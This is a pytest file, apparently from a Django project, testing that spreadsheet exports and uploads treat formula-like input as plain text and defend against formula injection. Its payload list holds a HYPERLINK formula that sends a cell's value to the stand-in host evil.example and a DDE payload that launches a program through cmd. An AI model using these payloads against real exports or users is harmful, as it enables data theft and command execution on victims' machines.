"""What a spreadsheet would take for a formula comes in as text and goes out as text."""

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from tests.api.machines import LIST, Machine, make_token
from tests.world import CITY, NOW, actor_with, make_event
from yanpan.base.indicators.models import CutOff
from yanpan.base.indicators.operations import fix_cut_off
from yanpan.shell.spreadsheets.writing import SheetToWrite, is_risky, write_workbook

FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "　=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"看")',
    "=cmd|' /C calc'!A0",
)


def _cells(workbook: bytes) -> list[tuple[str, object]]:
    """(data type, value) of every filled cell, as another program reads them."""
    book = load_workbook(io.BytesIO(workbook))
    return [
        (cell.data_type, cell.value)
        for sheet in book
        for row in sheet
        for cell in row
        if cell.value is not None
    ]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_workbook_we_write_has_no_formula_in_it(formula: str) -> None:
    sheet = SheetToWrite("名单", ["姓名", formula], [[formula, "演练甲"]], title=formula, footer=formula)
    workbook = write_workbook([sheet], fixed_at=NOW)
    assert is_risky(formula)
    assert {kind for kind, _value in _cells(workbook)} <= {"s", "inlineStr"}
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        assert not [name for name in archive.namelist() if re.search(rb"<f[ >]", archive.read(name))]


@pytest.mark.django_db
def test_a_formula_in_a_reason_stays_words_in_the_exported_brief() -> None:
    event = make_event(name="=1+1")
    actor = actor_with("indicators.fix_cut_off")
    for reason in ("", '=HYPERLINK("http://evil.example","看")'):
        fix_cut_off(
            actor,
            event_id=event.id,
            unit_key=CITY,
            name="16:00",
            on=NOW.date(),
            reason=reason,
            now=NOW,
        )
    corrected = CutOff.objects.get(version=2)
    workbook = Machine(make_token()).get(f"/briefs/{corrected.id}.xlsx")
    assert workbook.status_code == 200, workbook.content
    cells = _cells(workbook.content)
    assert any("HYPERLINK" in str(value) for _kind, value in cells)
    assert "f" not in {kind for kind, _value in cells}


@pytest.mark.django_db
def test_a_formula_that_comes_in_is_shown_as_text() -> None:
    make_event()
    file = io.BytesIO(LIST.replace("序号", "=1+1").replace("演练甲", "=1+1").encode())
    file.name = "=cmd.csv"
    answer = Machine(make_token()).post_form("/lists", {"unit": CITY, "source": "province", "file": file})
    assert answer.status_code == 201
    assert answer.json()["sheets"][0]["columns"][0]["title"] == "=1+1"
    assert answer.json()["person_rows"] == 3
